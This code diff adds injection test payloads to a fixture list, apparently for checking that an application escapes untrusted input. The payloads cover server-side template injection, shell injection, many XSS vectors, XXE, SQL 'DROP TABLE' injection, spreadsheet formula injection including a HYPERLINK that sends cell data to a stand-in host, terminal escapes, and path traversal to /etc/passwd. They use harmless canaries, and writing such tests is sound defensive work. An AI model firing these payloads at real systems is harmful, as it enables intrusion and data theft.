@@ -11,6 +11,10 @@ from typing import Any
 
 #: 1234 * 1000 shows as 1234000 where a template or a script ran it.
 RAN = "1234000"
+#: What a payload that runs sets: a variable of the server's environment, or ``window.PWN`` in the browser.
+CANARY = "SITMAP_PWN"
+#: A host that nobody has asked for anything.
+TRAP = "http://trap.example"
 PAYLOADS = (
     "{{1234*1000}}",
     "{% for x in range(3) %}1234000{% endfor %}",
@@ -28,6 +32,73 @@ PAYLOADS = (
     "\u202egnp.exe\u202c",
     "]]>&lt;b&gt;",
     "nul\x00 bell\x07",
+    # run on the server
+    f"{{{{ cycler.__init__.__globals__.os.environ.setdefault('{CANARY}', 'jinja') }}}}",
+    f"{{% set x = cycler.__init__.__globals__.os.putenv('{CANARY}', '1') %}}",
+    f"{{{{ ''.__class__.__mro__[1] }}}}{{{{ lipsum.__globals__['os'].environ.update({CANARY}='1') }}}}",
+    "{% raw %}{{ 7 }}{% endraw %} {%- endmacro -%}",
+    "{# open comment",
+    "{{ open",
+    "{0.__class__.__init__.__globals__} {x!r:>{y}} %(x)s %n",
+    f"__import__('os').environ.setdefault('{CANARY}', 'eval')",
+    f"$(touch /tmp/{CANARY}) `touch /tmp/{CANARY}` ; touch /tmp/{CANARY} | id",
+    # run in the browser
+    "${window.PWN=1}",
+    "`);window.PWN=2;//",
+    "');window.PWN=3;//",
+    '");window.PWN=4;//',
+    "</script><script>window.PWN=5</script>",
+    "<img src=x onerror=window.PWN=6>",
+    "<svg/onload=window.PWN=7>",
+    "<details open ontoggle=window.PWN=8>x</details>",
+    f"<iframe srcdoc='<script>parent.PWN=9</script>' src={TRAP}/9></iframe>",
+    "<a href=javascript:window.PWN=10>x</a>",
+    "[x](javascript:window.PWN=11) <javascript:window.PWN=11>",
+    "</textarea></title></style><script>window.PWN=12</script>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.PWN=13&gt;'>",
+    "&lt;img src=x onerror=window.PWN=14&gt;",
+    "%3Cscript%3Ewindow.PWN=15%3C/script%3E",
+    "$\\href{javascript:window.PWN=16}{x}$ $$\\frac{1}{$",
+    "'\"><body onload=window.PWN=17 style='position:fixed'>",
+    "constructor.constructor('window.PWN=18')() {{constructor.constructor('window.PWN=18')()}}",
+    "data:text/html,<script>window.PWN=19</script>",
+    # ask a host for something
+    f"![x]({TRAP}/20.png) <img src={TRAP}/20b.png srcset={TRAP}/20c.png>",
+    f"<style>@import '{TRAP}/21.css'; body{{background:url({TRAP}/21.png)}}</style>",
+    f"<link rel=stylesheet href={TRAP}/22.css><base href={TRAP}/>",
+    f"<meta http-equiv=refresh content='0;url={TRAP}/23'>",
+    f"<form action={TRAP}/24><input name=x autofocus onfocus=this.form.submit()></form>",
+    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{TRAP}/25'>]><x>&y;</x>",
+    f"<video autoplay poster={TRAP}/26.png><source src={TRAP}/26></video><object data={TRAP}/26b></object>",
+    ":red[x] :material/alarm: :rocket: **b** _i_ # h\n- l\n\n| a | b |\n|---|---|",
+    # be a formula
+    f'=HYPERLINK("{TRAP}/30?"&A1,"x")',
+    "+1+cmd|' /C calc'!A1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    " \u00a0=1+1",
+    # be a query
+    "'; DROP TABLE articles; --",
+    '" OR 1=1 --',
+    '" OR * NEAR(a b) AND col:x ^a NOT "',
+    "%_\\%",
+    # steer a terminal or a reader's eye
+    f"\x1b[31mred\x1b]8;;{TRAP}/40\x07link\x1b]8;;\x07\x1b[2J",
+    "\x9b31m\x9d0;title\x9c",
+    "back\x08\x08\x7f\x0cspace",
+    "\u2066left\u2069\u200bzero\u200d\ufeffwidth\u00ad",
+    "\r\nSet-Cookie: a=b\r\n\r\nerror: forged line",
+    # be a path, or break the text
+    "../../../etc/passwd",
+    "..\\..\\CON",
+    "file:///etc/passwd",
+    "tail\\",
+    "\\N{BULLET} \\x41 \\u{41}",
+    "Zalgo e" + "\u0301" * 60,
+    "\U0001f4a3\U000e0041\ufffe\U0010ffff",
 )
 
 
